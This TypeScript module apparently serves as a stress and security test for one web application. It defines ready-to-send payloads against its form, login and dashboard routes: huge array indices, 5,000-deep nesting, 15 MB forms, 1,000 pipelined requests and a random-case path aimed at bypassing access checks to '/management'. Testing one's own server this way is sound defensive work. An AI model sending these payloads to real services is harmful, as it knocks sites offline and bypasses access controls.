import { randomBytes } from "node:crypto";
import { request } from "node:http";
import { connect } from "node:net";

/** Something that one client sends to bring the server down. */
export interface Attack {
  name: string;
  /** Sends it once; resolves with the status, or with how the connection ended. */
  send(origin: string): Promise<string>;
}

type Headers = Record<string, string>;

const kibibyte = 1024;
const urlEncoded = { "Content-Type": "application/x-www-form-urlencoded" };
const json = { "Content-Type": "application/json" };
const multipart = { "Content-Type": "multipart/form-data; boundary=b" };

const intent = '__intent__={"type":"update","payload":{"name":"name[5000000]","value":"x"}}';

export const attacks: Attack[] = [
  post("a place in a list far away", "/careers", urlEncoded, () => "name[10000000]=x"),
  post("a place in a list farther away", "/careers", urlEncoded, () => "name[100000000]=x"),
  post("32,000 fields without a name", "/careers", urlEncoded, () => "a&".repeat(32_000)),
  post("a path of 5,000 steps", "/careers", urlEncoded, () => `name${".a".repeat(5000)}=x`),
  post("a list in a list, 5,000 deep", "/careers", urlEncoded, () => `name${"[0]".repeat(5000)}=x`),
  post("an intent for a place far away", "/careers", urlEncoded, () => intent),
  post(
    "a form of 15 MB with a made-up cookie",
    "/dashboard/AddDoctor/new",
    { ...multipart, Cookie: "session=x" },
    () => largeForm,
  ),
  post("an e-mail of 60 KB, by the API", "/api/v1/login", json, () =>
    JSON.stringify({ email: longEmail(), password: "x" }),
  ),
  post(
    "an e-mail of 60 KB, by the page",
    "/signin",
    urlEncoded,
    () => `email=${longEmail()}&password=x`,
  ),
  post(
    "a kept form of 250 KB from a stranger",
    "/signin",
    urlEncoded,
    () => `email=a&password=&resume=${"x".repeat(250 * kibibyte)}`,
  ),
  { name: "1,000 requests sent ahead", send: sendAhead },
  {
    name: "a page in letters of random case",
    send: (origin) => exchange("GET", origin + randomCase("/management"), {}),
  },
];

const largeForm = Buffer.from(
  `${Array.from({ length: 8 }, (_, at) => largePart(`f${at}`)).join("")}--b--\r\n`,
);

function largePart(name: string): string {
  const text = '<&">'.repeat(475 * kibibyte);
  return `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
}

function longEmail(): string {
  return `${randomBytes(6).toString("hex")}${"x".repeat(60 * kibibyte)}`;
}

function randomCase(text: string): string {
  return text.replace(/[a-z]/g, (letter) => (Math.random() < 0.5 ? letter : letter.toUpperCase()));
}

function post(name: string, path: string, headers: Headers, body: () => string | Buffer): Attack {
  return { name, send: (origin) => exchange("POST", origin + path, headers, body()) };
}

function exchange(
  method: string,
  url: string,
  headers: Headers,
  body: string | Buffer = "",
): Promise<string> {
  const complete = { ...headers, "Content-Length": String(Buffer.byteLength(body)) };
  return new Promise((resolve) => {
    const sent = request(url, { method, headers: complete, agent: false });
    sent.once("response", (incoming) => {
      resolve(String(incoming.statusCode));
      incoming.resume().once("end", () => sent.destroy());
    });
    sent.once("error", ({ message }) => resolve(message));
    sent.end(body);
  });
}

function sendAhead(origin: string): Promise<string> {
  const { hostname, port } = new URL(origin);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    socket.resume().setTimeout(5000, () => socket.destroy());
    socket.once("error", () => {});
    socket.once("close", () => resolve("cut"));
    socket.write("GET / HTTP/1.1\r\nHost: localhost\r\nCookie: session=x\r\n\r\n".repeat(1000));
  });
}
